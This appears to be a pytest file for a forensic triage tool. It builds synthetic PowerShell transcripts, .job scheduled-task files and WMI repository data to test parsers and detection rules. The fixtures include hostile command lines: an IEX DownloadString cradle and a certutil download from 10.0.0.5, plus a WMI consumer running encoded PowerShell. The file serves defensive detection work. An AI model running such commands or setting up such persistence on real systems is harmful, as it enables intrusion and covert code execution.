"""PowerShell transcripts, Task Scheduler 1.0 .job files and the WMI repository consumer scan.

The corpus has no sample of any of the three (its README: no WMI repository; no transcript or .job
file was found under a permissive licence), so each test builds the file here, byte for byte from the
published layout (PowerShell's transcript header; MS-TSCH ".JOB File Format"; consumer instances as
stored in OBJECTS.DATA), and asserts every decoded field and the findings they lead to."""

from __future__ import annotations

import os
import struct
import uuid
from pathlib import Path

from triage.analyze.findings import evaluate
from triage.analyze.findings_artifacts import ALL_RULES
from triage.model import Autorun, CommandHistory, Issue
from triage.parsers.base import input_from_file
from triage.parsers.job_files import JobFileParser, decode_job
from triage.parsers.ps_transcript import PowerShellTranscriptParser, TranscriptSession
from triage.parsers.wmi_repository import CHUNK, WmiPersistence, WmiRepositoryParser

STARS = "**********************"
TRANSCRIPT = "\r\n".join([
    STARS, "Windows PowerShell transcript start", "Start time: 20220310201047", "Username: DESKTOP-TMKU40H\\TestUser",
    "RunAs User: DESKTOP-TMKU40H\\TestUser", "Configuration Name: ", "Machine: DESKTOP-TMKU40H (Microsoft Windows NT 10.0.19044.0)",
    "Host Application: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -w hidden",
    "Process ID: 4242", "PSVersion: 5.1.19041.1320", STARS,
    "Transcript started, output file is C:\\Users\\TestUser\\Documents\\PowerShell_transcript.DESKTOP-TMKU40H.x1.20220310201047.txt",
    "PS C:\\Users\\TestUser> whoami", "desktop-tmku40h\\testuser",
    "PS C:\\Users\\TestUser> IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
    STARS, "Command start time: 20220310201102", STARS,
    "PS>certutil.exe -urlcache -split -f http://10.0.0.5/x.exe C:\\Users\\Public\\x.exe",
    STARS, "Windows PowerShell transcript end", "End time: 20220310201130", STARS, ""])


def _transcript(tmp_path: Path, text: str, encoding: str = "utf-8-sig") -> list:
    rel = "Users/TestUser/Documents/20220310/PowerShell_transcript.DESKTOP-TMKU40H.x1.20220310201047.txt"
    p = tmp_path / "t.txt"
    p.write_bytes(text.encode(encoding))
    return list(PowerShellTranscriptParser().parse(input_from_file(p, rel)))


def test_transcript_header_and_commands(tmp_path):
    recs = _transcript(tmp_path, TRANSCRIPT)
    cmds = [r for r in recs if isinstance(r, CommandHistory)]
    assert [c.command for c in cmds] == [
        "whoami", "IEX (New-Object Net.WebClient).DownloadString('http://10.0.0.5/a.ps1')",
        "certutil.exe -urlcache -split -f http://10.0.0.5/x.exe C:\\Users\\Public\\x.exe"]
    assert {c.shell for c in cmds} == {"powershell_transcript"} and cmds[0].user == "DESKTOP-TMKU40H\\TestUser"
    assert [c.line_number for c in cmds] == [13, 15, 19]
    (s,) = [r for r in recs if isinstance(r, TranscriptSession)]
    assert (s.username, s.machine, s.process_id, s.ps_version, s.commands) == (
        "DESKTOP-TMKU40H\\TestUser", "DESKTOP-TMKU40H (Microsoft Windows NT 10.0.19044.0)", "4242", "5.1.19041.1320", 3)
    assert s.host_application.endswith("powershell.exe -nop -w hidden") and s.configuration is None
    assert (s.started_local, s.ended_local) == ("2022-03-10 20:10:47", "2022-03-10 20:11:30")
    assert s.times() == [] and not [r for r in recs if isinstance(r, Issue)]
    # UTF-16 transcripts (Windows PowerShell's default encoding in some setups) read the same
    assert [r.command for r in _transcript(tmp_path, TRANSCRIPT, "utf-16") if isinstance(r, CommandHistory)] \
        == [c.command for c in cmds]
    rules = {f.rule for f in evaluate(recs, hostname="h", rules=ALL_RULES)}
    assert {"powershell_obfuscated", "lolbin"} <= rules


def test_transcript_two_sessions_and_junk(tmp_path):
    recs = _transcript(tmp_path, TRANSCRIPT + TRANSCRIPT.replace("Process ID: 4242", "Process ID: 7"))
    assert [s.process_id for s in recs if isinstance(s, TranscriptSession)] == ["4242", "7"]
    junk = _transcript(tmp_path, "no header here\r\nPS C:\\> dir\r\n" + "A" * 20_000)
    msgs = [r.message for r in junk if isinstance(r, Issue)]
    assert any("not a PowerShell transcript" in m for m in msgs) and any("longer than" in m for m in msgs)


def _ustr(s: str) -> bytes:
    return struct.pack("<H", len(s) + 1) + (s + "\x00").encode("utf-16-le")


def build_job(app: str, params: str, workdir: str, author: str, last_run: tuple[int, ...] | None,
              status: int = 0x41300, exit_code: int = 0) -> bytes:
    """A .job file as MS-TSCH lays it out: FIXDLEN_DATA, variable-length data, one daily trigger."""
    var = struct.pack("<H", 0) + _ustr(app) + _ustr(params) + _ustr(workdir) + _ustr(author) + _ustr("")
    var += struct.pack("<H", 0) + struct.pack("<HII", 8, 0, 0)  # no user data; reserved data: start error 0
    trig_off = 68 + len(var)
    trigger = struct.pack("<10HIIIIHHHHHH", 48, 0, 2022, 3, 10, 0, 0, 0, 9, 30, 0, 0, 0, 1, 1, 0, 0, 0, 0, 0)
    var += struct.pack("<H", 1) + trigger
    st = struct.pack("<8H", *last_run) if last_run else b"\x00" * 16
    fixed = struct.pack("<HH16sHHHHHHIIIII", 0x0601, 1, uuid.UUID("12345678-1234-5678-9abc-def012345678").bytes_le,
                        70, trig_off, 3, 5, 10, 10, 0x20, 259_200_000, exit_code, status, 0x1000000) + st
    assert len(fixed) == 68
    return fixed + var


def _job(tmp_path: Path, data: bytes, name: str = "Updater.job") -> list:
    p = tmp_path / name
    p.write_bytes(data)
    return list(JobFileParser().parse(input_from_file(p, f"Windows/Tasks/{name}")))


def test_job_file_fields_and_finding(tmp_path):
    data = build_job("C:\\Users\\Public\\svc.exe", "-k run", "C:\\Users\\Public", "CORP\\mallory",
                     (2022, 3, 4, 10, 20, 15, 7, 125), exit_code=1)
    (a,) = _job(tmp_path, data)
    assert isinstance(a, Autorun) and a.category == "task" and a.location == "C:\\Windows\\Tasks\\Updater.job"
    assert a.command == "C:\\Users\\Public\\svc.exe -k run"
    d = a.details
    assert (d["author"], d["working_directory"], d["exit_code"], d["status"]) == (
        "CORP\\mallory", "C:\\Users\\Public", 1, "ready")
    assert d["last_run_local"] == "2022-03-10 20:15:07.125" and d["product_version"] == "0x0601"
    assert d["job_id"] == "{12345678-1234-5678-9ABC-DEF012345678}"
    assert d["triggers"] == [{"type": "daily", "start_local": "2022-03-10 09:30", "end_date_local": None,
                              "duration_minutes": 0, "interval_minutes": 0, "disabled": False}]
    fs = [f for f in evaluate([a], hostname="h", rules=ALL_RULES) if f.rule == "autorun_user_writable"]
    assert fs and fs[0].severity == "high" and "T1053.005" in fs[0].attack


def test_job_file_damaged(tmp_path):
    good = build_job("C:\\Windows\\System32\\defrag.exe", "C:", "", "", None, status=0x41303)
    (a,) = _job(tmp_path, good)
    assert a.details["status"] == "has_not_run" and "last_run_local" not in a.details
    cut = _job(tmp_path, good[:140], "Cut.job")  # application name survives, the rest is gone
    assert isinstance(cut[0], Issue) and cut[0].severity == "warning" and "past the end" in cut[0].message
    assert cut[1].command == "C:\\Windows\\System32\\defrag.exe"
    (short,) = _job(tmp_path, b"\x01\x06" * 10, "Short.job")
    assert isinstance(short, Issue) and short.severity == "error"
    job, problem = decode_job(good[:68] + b"\x00\x00" + b"\xff\xff")  # 65535-character name claimed
    assert problem and "run past the end" in problem


def _objects(tmp_path: Path, parts: list[bytes]) -> list:
    p = tmp_path / "OBJECTS.DATA"
    p.write_bytes(b"".join(parts))
    return list(WmiRepositoryParser().parse(input_from_file(p, "Windows/System32/wbem/Repository/OBJECTS.DATA")))


CLASS_DEF = (b"CommandLineEventConsumer\x00\x00__EventConsumer\x00CommandLineTemplate\x00ExecutablePath\x00"
             b"WorkingDirectory\x00KillTimeout\x00")
INSTANCE = (b"CommandLineEventConsumer\x00\x00\x00\x08Updater\x00\x00"
            b"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA\x00\x00")
BINDING = (b"__FilterToConsumerBinding\x00\x00CommandLineEventConsumer.Name=\"Updater\"\x00\x00"
           b"__EventFilter.Name=\"UpdaterFilter\"\x00")


def test_wmi_scan_finds_instance_not_class(tmp_path):
    rnd = os.urandom(4096)
    # the instance straddles the first 1 MiB chunk boundary; the class definition alone is no hit
    lead = CHUNK - 40 - len(rnd) - len(CLASS_DEF)
    recs = _objects(tmp_path, [rnd, CLASS_DEF, b"\x00" * lead, INSTANCE, b"\x00" * 9000, BINDING, b"\x00" * 64])
    wmi = [r for r in recs if isinstance(r, WmiPersistence)]
    assert [w.kind for w in wmi] == ["CommandLineEventConsumer", "__FilterToConsumerBinding"]
    inst, bind = wmi
    assert inst.offset == len(rnd) + len(CLASS_DEF) + lead and inst.source.locator == f"offset {inst.offset}"
    assert inst.command == "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe -nop -enc SQBFAFgA"
    assert "Updater" in inst.strings and not inst.known_benign
    assert bind.strings == ('CommandLineEventConsumer.Name="Updater"', '__EventFilter.Name="UpdaterFilter"')
    fs = [f for f in evaluate(recs, hostname="h", rules=ALL_RULES) if f.rule == "wmi_consumer"]
    assert len(fs) == 1 and fs[0].severity == "high" and fs[0].attack == ("T1546.003",)
    # a repository holding only the class definitions (every Windows install) gives nothing
    assert not [r for r in _objects(tmp_path, [rnd, CLASS_DEF, rnd]) if isinstance(r, WmiPersistence)]


def test_wmi_scan_utf16_benign_and_bounded(tmp_path):
    bvt = ("ActiveScriptEventConsumer\x00\x00BVTConsumer\x00VBScript\x00"
           "C:\\tools\\kernrate\\KernCap.vbs\x00").encode("utf-16-le")
    recs = _objects(tmp_path, [b"\x00" * 100, bvt])
    (w,) = [r for r in recs if isinstance(r, WmiPersistence)]
    assert w.kind == "ActiveScriptEventConsumer" and w.known_benign and w.command.endswith("KernCap.vbs")
    assert [f.severity for f in evaluate(recs, hostname="h", rules=ALL_RULES) if f.rule == "wmi_consumer"] == ["info"]
    flood = _objects(tmp_path, [INSTANCE * 1200])
    assert any(isinstance(r, Issue) and "scan stopped" in r.message for r in flood)
    assert sum(isinstance(r, WmiPersistence) for r in flood) <= 1000
